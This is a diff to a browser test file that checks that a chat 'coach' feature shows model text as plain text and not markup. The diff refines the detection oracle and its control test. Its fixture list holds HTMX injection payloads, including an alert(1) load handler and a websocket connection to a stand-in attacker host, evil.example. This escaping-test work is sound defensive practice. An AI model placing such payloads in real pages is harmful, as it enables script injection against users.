@@ -22,7 +22,8 @@ HTMX = [
     '<div hx-on:load="alert(1)"></div>',
     '<div hx-ext="ws" ws-connect="wss://evil.example/x"></div>',
 ]
-ORACLE = """() => [...document.querySelectorAll(".coach-text *, .coach-question *")]
+ORACLE = """() => [...document.querySelectorAll(
+    ".coach-turn:not([data-real]) :is(.coach-text, .coach-question) *")]
   .map((element) => element.localName).filter((name) => !["p", "span"].includes(name))"""
 
 
@@ -56,6 +57,10 @@ def said(page: Page):
     page.evaluate("() => { window.alert = () => { window.ran = true } }")
     while not sockets:
         page.wait_for_timeout(50)
+    # The answer to the question that connected the page may be there already, with a link of the coach's own.
+    page.evaluate(
+        "() => document.querySelectorAll('.coach-turn').forEach((turn) => { turn.dataset.real = '' })"
+    )
 
     def say(texts: list[tuple[str, int | None]]) -> list[str]:
         asked: list[str] = []
@@ -102,5 +107,6 @@ def test_coach_text_cut_anywhere_is_text(page: Page, said, errors):
 def test_coach_text_oracle_finds_what_unescaped_text_does(page: Page, said, errors):
     """The control: the same payload as markup is found by the same oracle."""
     said([("x", None)])
-    page.evaluate("() => { document.querySelector('.coach-text').innerHTML = '<b>x</b>' }")
+    said_here = ".coach-turn:not([data-real]) .coach-text"
+    page.locator(said_here).evaluate("(text) => { text.innerHTML = '<b>x</b>' }")
     assert page.evaluate(ORACLE) == ["b"]
